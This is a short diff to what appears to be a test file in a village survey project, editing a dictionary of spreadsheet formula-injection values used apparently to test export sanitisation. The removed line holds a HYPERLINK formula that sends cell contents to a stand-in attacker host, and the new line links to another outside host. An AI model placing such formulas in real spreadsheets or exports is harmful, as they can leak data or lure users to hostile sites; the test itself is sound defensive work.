@@ -20,7 +20,7 @@ from village_survey.exchange import columns as C
 from village_survey.extensions import db
 
 YEAR = 2026
-INJECTIONS = {"head_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "notes": "+1",
+INJECTIONS = {"head_name": '=HYPERLINK("http://x.cn","go")', "notes": "+1",
               "house_number": "@SUM(A1:A9)"}
 
 
